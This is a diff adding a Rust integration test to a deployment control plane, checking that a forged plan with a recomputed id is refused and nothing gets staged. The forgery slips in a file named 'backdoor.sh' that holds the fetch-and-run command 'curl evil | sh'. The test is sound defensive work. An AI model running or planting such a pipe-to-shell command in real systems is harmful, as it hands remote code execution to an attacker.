@@ -370,3 +370,21 @@ async fn an_environment_that_needs_an_approval_applies_only_the_approved_plan() 
     let last = w.receipts().last().unwrap().clone();
     assert_eq!(last["approvals"][0]["approver"], "carol", "the receipt says who approved");
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_forged_plan_with_a_recomputed_id_is_refused() {
+    let w = World::start(fleet(1)).await;
+    let img = w.release("v1").await;
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("plan.json");
+    assert_ok(&w.promote("staging", &img, &["--out", path.to_str().unwrap()]));
+    // Someone slips a file into the plan and recomputes its id: it is self-consistent.
+    let mut saved: controlplane::plan::SavedPlan = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+    use base64::Engine as _;
+    saved.plan.files.insert("backdoor.sh".into(), base64::engine::general_purpose::STANDARD.encode("curl evil | sh"));
+    saved.plan_id = saved.plan.id();
+    std::fs::write(&path, serde_json::to_vec(&saved).unwrap()).unwrap();
+    let before = hosts_only(w.snapshot());
+    assert_exit(&w.agentctl(&["apply", path.to_str().unwrap()]), 4, "not what the manifests render");
+    assert_same(&before, &hosts_only(w.snapshot()), "nothing staged");
+}
